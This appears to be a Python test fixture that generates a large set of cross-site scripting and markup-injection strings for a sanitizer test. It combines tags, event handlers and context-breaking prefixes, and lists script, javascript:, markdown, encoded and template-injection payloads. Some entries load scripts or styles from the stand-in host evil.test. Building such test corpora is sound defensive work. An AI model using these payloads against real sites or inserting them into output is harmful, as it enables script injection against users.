"""Texts that try to become markup or code, made by combination: tags × handlers × ways of writing them."""

from collections.abc import Sequence
from itertools import product

# Runs if anything runs; the browser's test looks for the name it leaves.
CODE = "window.ran=1"
OPENINGS: Sequence[str] = (
    "<img src=x {on}={code}>",
    "<svg {on}={code}>",
    "<body {on}={code}>",
    "<details open {on}={code}>",
    "<video src=x {on}={code}>",
    "<input autofocus {on}={code}>",
    "<iframe {on}={code}>",
    "<a href=# {on}={code}>x</a>",
    "<marquee {on}={code}>",
    "<x {on}={code} tabindex=1>",
)
HANDLERS: Sequence[str] = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "OnErRoR",
)
# How a text breaks out of where it stands: an element, an attribute, a text area, a title, a script, a comment.
BREAKS: Sequence[str] = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</style>",
    '"/>',
    "</option></select>",
)
ALONE: Sequence[str] = (
    "<script>{code}</script>",
    "<script src=//evil.test></script>",
    "<SCRIPT>{code}</SCRIPT>",
    "<script\n>{code}</script\n>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<script/x>{code}</script>",
    "<svg><script>{code}</script></svg>",
    "<math><mtext><script>{code}</script>",
    "<iframe src='javascript:{code}'>",
    "<iframe srcdoc='&lt;script&gt;{code}&lt;/script&gt;'>",
    "<object data='javascript:{code}'>",
    "<embed src='javascript:{code}'>",
    "<form action='javascript:{code}'><button>x",
    "<button formaction='javascript:{code}'>x",
    "<base href='//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{{background:url(//evil.test)}}</style>",
    "<img src=//evil.test/x.png>",
    "<img srcset='//evil.test/x.png 1x'>",
    "<a href='javascript:{code}'>x</a>",
    "<a href='data:text/html,<script>{code}</script>'>x</a>",
    "<template><script>{code}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "[x](javascript:{code})",
    "[x](JaVaScRiPt:{code})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.test)",
    "![x](//evil.test/x.png)",
    "<javascript:{code}>",
    "[x]: javascript:{code}",
    '[x](https://a.test" onclick="{code})',
    "`<script>{code}</script>`",
    "    <script>{code}</script>",
    "> <img src=x onerror={code}>",
    "| a | <img src=x onerror={code}> |\n|---|---|\n| b | c |",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "&#x3c;img src=x onerror={code}&#x3e;",
    "\\u003cscript\\u003e{code}",
    "%3Cscript%3E{code}%3C/script%3E",
    "{{{{constructor.constructor('{code}')()}}}}",
    "{{{{7*7}}}}",
    "{{% raw %}}",
    "${{{code}}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "*{{7*7}}",
    "' onmouseover='{code}",
    '" onmouseover="{code}',
    "` onmouseover=`{code}",
    '" autofocus onfocus="{code}" x="',
    "x' style='x:expression({code})",
    "<![CDATA[<script>{code}</script>]]>",
    "<!--[if gte IE 4]><script>{code}</script><![endif]-->",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x>",
    "<<script>{code}//<</script>",
    "<img \x0bsrc=x onerror={code}>".replace("\x0b", "/"),
    "<img/src=x/onerror={code}>",
    "<img src=x onerror\n=\n{code}>",
    "<\u00adscript>{code}</script>".replace("\u00ad", ""),
    "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
    "<\u017fcript>{code}</\u017fcript>",
    "<img src=x one\u017frror={code}>",
)


def vectors() -> list[str]:
    """Return the whole set, each once."""
    made = [opening.format(on=on, code=CODE) for opening, on in product(OPENINGS, HANDLERS)]
    some = made[::5] + [text.format(code=CODE) for text in ALONE[:24]]
    broken = [before + text for before, text in product(BREAKS[1:], some)]
    alone = [text.format(code=CODE) for text in ALONE]
    return list(dict.fromkeys([*made, *broken, *alone]))
